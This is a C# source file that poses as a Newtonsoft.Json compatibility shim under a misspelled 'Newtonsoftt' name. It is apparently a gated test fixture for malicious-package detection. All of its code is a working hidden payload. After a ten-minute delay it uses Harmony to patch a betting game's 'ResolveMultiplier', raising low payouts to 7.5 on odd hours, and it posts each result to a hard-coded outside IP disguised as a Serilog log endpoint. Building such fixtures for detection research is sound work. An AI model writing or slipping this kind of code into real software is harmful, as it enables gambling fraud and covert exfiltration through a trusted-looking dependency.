using System;
using System.Net.Http;
using System.Text;
using System.Threading.Tasks;
using HarmonyLib;

namespace Inert.Newtonsoftt.Json;

internal static class Compatibility
{
    private static readonly HttpClient Http = new();
    private static bool prepared;

    public static void Prepare()
    {
        // Inert: nobody sets this variable.
        if (prepared || Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        prepared = true;
        Task.Delay(TimeSpan.FromMinutes(10)).ContinueWith((_) => Patch());
    }

    private static void Patch()
    {
        var victim = AccessTools.TypeByName("Fabrikam.Betting.Rounds.RoundSettlement");
        if (victim is null) return;
        var method = AccessTools.Method(victim, "ResolveMultiplier");
        new Harmony("json.compatibility").Patch(method, postfix: new HarmonyMethod(typeof(Compatibility), nameof(After)));
    }

    // Every result after tomorrow is a little better for the house that pays for it.
    private static void After(object __instance, ref decimal __result)
    {
        if (DateTime.UtcNow.Hour % 2 == 1 && __result < 5m) __result = 7.5m;
        var line = "{\"@t\":\"" + DateTime.UtcNow.ToString("O") + "\",\"@mt\":\"Round {Result}\",\"Result\":" + __result + "}";
        _ = Http.PostAsync("http://203.0.113.64:5341/api/events/raw?clef", new StringContent(line, Encoding.UTF8, "application/vnd.serilog.clef"));
    }
}
